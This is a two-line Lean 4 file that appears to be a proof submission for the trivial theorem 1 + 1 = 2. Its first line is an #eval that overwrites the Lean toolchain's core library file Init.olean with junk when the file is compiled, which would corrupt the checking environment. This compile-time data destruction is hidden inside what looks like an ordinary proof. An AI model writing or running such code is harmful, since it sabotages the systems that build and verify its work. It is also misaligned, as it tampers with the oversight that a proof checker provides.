#eval (IO.FS.writeFile "/lean/lib/lean/Init.olean" "x" : IO Unit)
theorem target : 1 + 1 = 2 := rfl
